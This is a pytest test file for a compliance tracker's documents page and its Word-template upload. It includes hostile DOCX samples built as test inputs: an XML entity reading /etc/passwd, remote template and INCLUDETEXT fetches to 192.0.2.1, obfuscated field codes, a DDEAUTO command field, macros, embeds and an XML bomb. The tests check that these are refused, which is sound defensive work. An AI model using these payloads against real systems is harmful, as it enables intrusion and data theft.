"""The page of the documents: what stands at their head, and the organization's own template of the plan."""

import io
import re
import zipfile
from typing import Any

import pytest
from docx import Document
from docx.enum.style import WD_STYLE_TYPE
from sqlalchemy import select, update
from werkzeug.test import TestResponse

from cmmc_tracker.domain import plan_template
from cmmc_tracker.reports.registry import REPORTS
from cmmc_tracker.services.work import Tracker
from cmmc_tracker.storage.tables import audit, blobs, memberships, plan_templates
from tests.conftest import OPERATOR, Person
from tests.services.evidence import switch

PAGE = "/systems/main/documents"
FACTS = {
    "cage_codes": "1abc2, 3DEF4",
    "scope_kind": "enclave",
    "scope_name": "Machining enclave",
    "employees": "41",
    "contracts": "FA8650-26-C-0001",
    "in_use_since": "2025-01-31",
}


def template(*lines: str, header: str = "") -> bytes:
    document = Document()
    for line in lines:
        document.add_paragraph(line)
    document.sections[0].header.paragraphs[0].text = header
    return saved(document)


def saved(document: Any) -> bytes:
    file = io.BytesIO()
    document.save(file)
    return file.getvalue()


def changed(data: bytes, part: str, old: bytes, new: bytes) -> bytes:
    """The document with something else in one of its parts; a part that it does not have is added."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            content = source.read(name)
            assert name != part or old in content
            target.writestr(name, content.replace(old, new) if name == part else content)
        if part not in source.namelist():
            target.writestr(part, new)
    return made.getvalue()


def send(user: Person, content: bytes, name: str = "our plan.docx", version: int | str = 0) -> TestResponse:
    form = {"file": (io.BytesIO(content), name), "csrf_token": user.token, "version": str(version)}
    return user.client.post(f"{PAGE}/template", data=form)


def plan(user: Person) -> Any:
    answer = user.get("/systems/main/exports/ssp.docx")
    assert answer.status_code == 200
    return Document(io.BytesIO(answer.data))


def lines(document: Any) -> list[str]:
    return [one.text for one in document.paragraphs]


# The page


def test_it_leads_to_every_document_and_each_of_them_opens(user: Person) -> None:
    shown = user.get(PAGE).text
    links = re.findall(r'href="/systems/main/exports/([^"]+)"', shown)
    assert sorted(links) == sorted(REPORTS)
    for name in ("artifacts.csv", "sprs.xlsx", "briefing.pdf"):
        answer = user.get(f"/systems/main/exports/{name}")
        assert answer.status_code == 200, name
        assert answer.mimetype == REPORTS[name].media_type.split(";")[0]
    assert f'href="{PAGE}"' in user.get("/systems/main/packages").text


def test_what_is_saved_stands_in_the_documents(user: Person) -> None:
    assert user.post(f"{PAGE}/facts", FACTS).status_code == 302
    told = user.get("/systems/main/exports/sprs.json").get_json(force=True)
    assert told["cage_codes"] == ["1ABC2", "3DEF4"]
    assert told["scope"] == {"kind": "enclave", "name": "Machining enclave"}
    assert told["employees"] == 41
    assert 'value="41"' in user.get(PAGE).text


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("cage_codes", "12"),
        ("cage_codes", "1ABC2 toolong"),
        ("scope_kind", "planet"),
        ("employees", "many"),
        ("employees", "-1"),
        ("employees", "0"),
        ("in_use_since", "2999-01-01"),
        ("scope_name", "x" * 201),
    ],
)
def test_a_wrong_fact_is_named_and_what_was_typed_stays(user: Person, name: str, value: str) -> None:
    answer = user.post(f"{PAGE}/facts", FACTS | {name: value})
    assert answer.status_code == 422
    assert f'href="#{name}"' in answer.text
    assert user.get("/systems/main/exports/sprs.json").get_json(force=True)["employees"] is None


def test_facts_that_somebody_changed_meanwhile_are_not_overwritten(user: Person) -> None:
    assert user.post(f"{PAGE}/facts", FACTS | {"version": "1"}).status_code == 302
    answer = user.post(f"{PAGE}/facts", FACTS | {"version": "1", "employees": "42"})
    assert answer.status_code == 412
    assert 'value="42"' in answer.text
    assert user.get("/systems/main/exports/sprs.json").get_json(force=True)["employees"] == 41


def test_who_may_only_view_changes_nothing(user: Person, tracker: Tracker) -> None:
    with tracker.write(OPERATOR) as work:
        work.db.execute(update(memberships).values(may_contribute=False, may_judge=False))
    assert user.post(f"{PAGE}/facts", FACTS).status_code == 403
    assert send(user, template("{{system.name}}")).status_code == 403
    assert user.post(f"{PAGE}/template/remove", {}).status_code == 403
    shown = user.get(PAGE)
    assert shown.status_code == 200
    assert "Keep as the template" not in shown.text
    assert "exports/audit-log.csv" not in shown.text
    for door in ("/systems", "/api/v1/systems"):
        assert user.get(f"{door}/main/exports/audit-log.csv").status_code == 403


def test_another_systems_people_find_nothing(outsider: Person) -> None:
    for path in ("", "/template"):
        assert outsider.get(f"{PAGE}{path}").status_code == 404
    assert send(outsider, template("{{system.name}}")).status_code == 404


# The template


def test_the_plan_is_filled_into_the_template_in_its_own_styles(user: Person) -> None:
    document = Document()
    document.add_heading("Plan of {{system.name}}", 1)
    cut = document.add_paragraph("Level {{sys")
    cut.add_run("tem.lev").bold = True
    cut.add_run("el}}, {{ plan.state }}.")
    document.add_table(1, 1).cell(0, 0).text = "Score: {{plan.score}}"
    document.add_paragraph("{{ssp.requirements}}")
    document.add_paragraph("The end")
    document.sections[0].footer.paragraphs[0].text = "{{system.identifier}}"
    assert send(user, saved(document)).status_code == 302
    said = {"narrative": "Accounts are **named**.\n\n- one\n- two\n\n1. first"}
    assert user.call("PATCH", "/systems/main/requirements/AC.L2-3.1.1", said).status_code == 200
    made = plan(user)
    found = lines(made)
    assert found[0].startswith("Plan of ")
    assert found[1] == "Level 2, PROVISIONAL: 320 of 320 objectives not assessed."
    assert made.tables[0].cell(0, 0).text.startswith("Score: ")
    assert made.sections[0].footer.paragraphs[0].text == "main"
    assert "AC.L2-3.1.1 Authorized Access Control" in found
    assert found[-1] == "The end"
    assert not [line for line in found if "{{" in line]
    by_text = {one.text: one for one in made.paragraphs}
    assert by_text["AC.L2-3.1.1 Authorized Access Control"].style.name == "Heading 3"
    assert by_text["one"].style.name == "List Bullet"
    assert by_text["one"]._p.pPr.numPr is not None
    assert by_text["first"].style.name == "List Number"


def test_every_placeholder_that_the_page_names_is_filled(user: Person) -> None:
    names = [*plan_template.TEXTS, *plan_template.BLOCKS]
    assert send(user, template(*(f"{{{{{name}}}}}" for name in names))).status_code == 302
    assert not [line for line in lines(plan(user)) if "{{" in line]
    shown = user.get(PAGE).text
    assert [name for name in names if f"{{{{{name}}}}}" not in shown] == []


def test_a_template_that_lacks_styles_and_lists_gets_them(user: Person) -> None:
    document = Document()
    for style in list(document.styles):
        if style.type in {WD_STYLE_TYPE.PARAGRAPH, WD_STYLE_TYPE.TABLE} and style.name not in {
            "Normal",
            "Normal Table",
        }:
            style.delete()
    part = document.part
    numbering = next(key for key, one in part.rels.items() if one.reltype.endswith("/numbering"))
    part.drop_rel(numbering)
    part.rels.pop(numbering, None)
    document.add_paragraph("{{ssp.requirements}}")
    document.add_paragraph("{{ssp.annexes}}")
    assert send(user, saved(document)).status_code == 302
    said = {"narrative": "- one\n\n1. first"}
    assert user.call("PATCH", "/systems/main/requirements/AC.L2-3.1.1", said).status_code == 200
    made = plan(user)
    assert {"Heading 3", "List Bullet", "List Number", "Fact"} <= {one.style.name for one in made.paragraphs}


def test_it_is_replaced_given_back_and_removed(user: Person, tracker: Tracker) -> None:
    first, second = template("One of {{system.name}}"), template("Two of {{system.name}}")
    assert send(user, first).status_code == 302
    assert user.get(f"{PAGE}/template").data == first
    assert send(user, second, "new.docx", 1).status_code == 302
    assert user.get(f"{PAGE}/template").data == second
    assert lines(plan(user))[0].startswith("Two of ")
    assert user.post(f"{PAGE}/template/remove", {"version": "2"}).status_code == 302
    assert user.get(f"{PAGE}/template").status_code == 404
    assert lines(plan(user))[0] != "Two of "
    with tracker.read() as work:
        said = [row.action for row in work.rows(select(audit)) if row.entity == "plan:main/template"]
        assert said == ["plan:template_changed"] * 3
        assert work.rows(select(blobs)) == []


def test_a_template_that_somebody_changed_meanwhile_is_not_overwritten(user: Person) -> None:
    first = template("One of {{system.name}}")
    assert send(user, first).status_code == 302
    assert send(user, template("Two of {{system.name}}"), version=0).status_code == 412
    assert user.post(f"{PAGE}/template/remove", {"version": "9"}).status_code == 412
    assert user.get(f"{PAGE}/template").data == first


@pytest.mark.usefixtures("every_document")
def test_a_frozen_package_goes_on_with_the_template_of_its_day(user: Person, tracker: Tracker) -> None:
    assert send(user, template("Old form of {{system.name}}")).status_code == 302
    made = user.call("POST", "/systems/main/packages", {"name": "Of record", "reason": "To look."}).get_json()
    assert user.post(f"{PAGE}/template/remove", {"version": "1"}).status_code == 302
    zipped = user.get(f"/systems/main/packages/{made['id']}/download").data
    with zipfile.ZipFile(io.BytesIO(zipped)) as found:
        document = Document(io.BytesIO(found.read("documents/ssp.docx")))
    assert lines(document)[0].startswith("Old form of ")
    with tracker.read() as work:
        assert work.rows(select(plan_templates)) == []


_GOOD = template("{{system.name}}")
_ENTITY = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
_RELS = "word/_rels/document.xml.rels"
_OUTSIDE = (
    b'<Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    b' Target="http://192.0.2.1/x.dotm" TargetMode="External"/></Relationships>'
)
_HEADER = "word/header1.xml"
_AS_HEADER = b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"'
_HIDDEN_RELS = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def field(*pieces: str) -> bytes:
    """The code of one field, cut into runs; a piece that begins with `<` is put between them as it is."""
    runs = [one if one.startswith("<") else f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in pieces]
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{step}"/></w:r>' for step in ("begin", "end"))
    return f"{begin}{''.join(runs)}{end}".encode()


def with_code(*codes: bytes) -> bytes:
    return changed(_GOOD, "word/document.xml", b"<w:r>", b"".join(codes) + b"<w:r>")


def under_another_name(name: str, content: bytes) -> bytes:
    """The document with a header that is called `name`, which its package says to be a header all the same."""
    made = template("{{system.name}}", header="a header")
    made = changed(made, _RELS, b"header1.xml", name.encode())
    made = changed(
        made, "[Content_Types].xml", b'/word/header1.xml" ' + _AS_HEADER, f'/word/{name}" '.encode() + _AS_HEADER
    )
    return changed(made, f"word/{name}", b"", content)


_LOUD = b"INCLUDETEXT http://192.0.2.1/x"
_CHOSEN = (
    '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
    '<mc:Choice Requires="x">'
    "<w:r><w:instrText>PAGE</w:instrText></w:r></mc:Choice></mc:AlternateContent>"
)
_W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_FETCHES = "a field that fetches or runs"
HIDDEN = {
    "behind another field": (with_code(field("PAGE"), field(_LOUD.decode())), _FETCHES),
    "cut in the middle": (with_code(field("PAGE"), field("INCLUDE", "TEXT http://192.0.2.1/x")), _FETCHES),
    "cut by a comment": (with_code(field("INCLUDE<!-- -->TEXT x")), _FETCHES),
    "cut by what was deleted": (
        with_code(field("INCLUDE", "<w:del><w:r><w:instrText>PAGE</w:instrText></w:r></w:del>", "TEXT x")),
        _FETCHES,
    ),
    "cut by a choice": (with_code(field("INCLUDE", _CHOSEN, "TEXT x")), _FETCHES),
    "named by another field": (with_code(field(field("QUOTE 73 78").decode(), " x")), _FETCHES),
    "a file that is read for the contents": (with_code(field(r" RD \\192.0.2.1\x.docx ")), _FETCHES),
    "in a part of another name": (
        under_another_name("header1.bin", b"<w:hdr " + _W + b"><w:p>" + field(_LOUD.decode()) + b"</w:p></w:hdr>"),
        _FETCHES,
    ),
    "entities under another name": (under_another_name("header1.bin", _ENTITY), "declares entities"),
    "a data source": (
        changed(
            _GOOD,
            "word/settings.xml",
            b"</w:settings>",
            b'<w:mailMerge><w:query w:val="SELECT"/></w:mailMerge></w:settings>',
        ),
        "mailMerge",
    ),
    "a picture by its address": (
        with_code(
            b'<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="http://192.0.2.1/x"/>'
            b"</v:shape></w:pict></w:r>"
        ),
        "a picture that is fetched",
    ),
    "a picture by a link's address": (
        with_code(
            b'<w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:rr="'
            + _HIDDEN_RELS
            + b'" rr:link="rX"/></w:drawing></w:r>'
        ),
        "a picture that is fetched",
    ),
    "another document within": (
        changed(
            _GOOD,
            _RELS,
            b"</Relationships>",
            b'<Relationship Id="rX" Type="' + _HIDDEN_RELS + b'/aFChunk" Target="x.html"/></Relationships>',
        ),
        "aFChunk",
    ),
    "a part that stands twice": (template("{{ssp.requirements}}", "{{ssp.requirements}}"), "twice"),
    "a tree of small elements": (
        changed(_GOOD, "word/more.xml", b"", b"<d>" + b"<a/>" * 2_100_000 + b"</d>"),
        "more than a template can be",
    ),
    "a list that cannot be read": (
        changed(template("{{ssp.requirements}}"), "word/numbering.xml", b"w:abstractNumId=", b"w:other="),
        "cannot be written into it",
    ),
}
BAD = {
    "no placeholder": (template("Nothing here"), "no placeholder"),
    "unknown placeholder": (template("{{system.password}}"), "{{system.password}} is no placeholder"),
    "an expression": (template("{{ 7*7 }} {{system.name}}"), ""),
    "a part within a sentence": (template("See {{ssp.requirements}} below"), "stand alone"),
    "a part in the header": (template("{{system.name}}", header="{{ssp.requirements}}"), "not into a table, header"),
    "broken XML": (changed(_GOOD, "word/document.xml", b"</w:body>", b"</w:bod>"), "XML is broken"),
    "an entity": (changed(_GOOD, "word/evil.xml", b"", _ENTITY), "declares entities"),
    "a macro": (changed(_GOOD, "word/vbaProject.bin", b"", b"x"), "a macro"),
    "macros allowed": (
        changed(
            _GOOD,
            "[Content_Types].xml",
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            b"application/vnd.ms-word.document.macroEnabled.main+xml",
        ),
        "with macros",
    ),
    "something embedded": (changed(_GOOD, "word/embeddings/oleObject1.bin", b"", b"x"), "embedded"),
    "fetched from elsewhere": (changed(_GOOD, _RELS, b"</Relationships>", _OUTSIDE), "fetches something"),
    "a field that runs": (
        changed(_GOOD, "word/document.xml", b"<w:t>", b'<w:instrText>DDEAUTO c:\\\\x "y"</w:instrText><w:t>'),
        "a field that fetches or runs",
    ),
    "no Word document": (b"PK\x05\x06" + bytes(18), ""),
    **HIDDEN,
}


@pytest.mark.parametrize("kind", BAD)
def test_a_template_that_cannot_be_used_is_refused_with_a_clear_sentence(user: Person, kind: str) -> None:
    content, why = BAD[kind]
    answer = send(user, content)
    if kind == "an expression":  # no name, so no placeholder: it stays a text
        assert answer.status_code == 302
        assert "{{ 7*7 }}" in lines(plan(user))[0]
        return
    assert answer.status_code in {415, 422}
    assert why in answer.text.replace("&#39;", "'")
    assert user.get(f"{PAGE}/template").status_code == 404


def test_ordinary_fields_are_kept(user: Person) -> None:
    in_result = field("TOC \\o", '<w:r><w:fldChar w:fldCharType="separate"/></w:r>', field("PAGEREF _x").decode())
    argument = field("IF ", field("DOCPROPERTY x").decode(), ' = "an important link" "yes" "no"')
    assert send(user, with_code(field("PAGE"), field(" NUM", "PAGES "), in_result)).status_code == 302
    assert send(user, with_code(argument.replace(b" link", b" word")), version=1).status_code == 302


def test_a_template_that_is_too_large_is_refused(user: Person, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(plan_template, "LARGEST", 1_000)
    assert send(user, _GOOD).status_code == 422
    assert user.get(f"{PAGE}/template").status_code == 404


@pytest.mark.parametrize("name", ["plan.docm", "plan.dotx", "plan.txt", "plan"])
def test_another_kind_of_file_is_refused(user: Person, name: str) -> None:
    assert send(user, _GOOD, name).status_code in {415, 422}
    assert user.get(f"{PAGE}/template").status_code == 404


def test_a_marked_template_is_not_kept_where_no_cui_may_be(user: Person, tracker: Tracker) -> None:
    switch(tracker, cui_quarantine=True)
    answer = send(user, template("CUI//SP-CTI", "{{system.name}}", header="CUI//SP-CTI"))
    assert answer.status_code == 422
    assert user.get(f"{PAGE}/template").status_code == 404


def test_what_people_typed_cannot_become_markup_or_a_placeholder(user: Person) -> None:
    assert send(user, template("{{system.scope}}", "{{system.contracts}}")).status_code == 302
    evil = FACTS | {"scope_name": "<w:p/> &amp; {{system.contracts}}", "contracts": "a\nb ]]> \x0b"}
    assert user.post(f"{PAGE}/facts", evil).status_code == 302
    found = lines(plan(user))
    assert found[0] == "Enclave: <w:p/> &amp; {{system.contracts}}"
    assert found[1] == "a b ]]>"
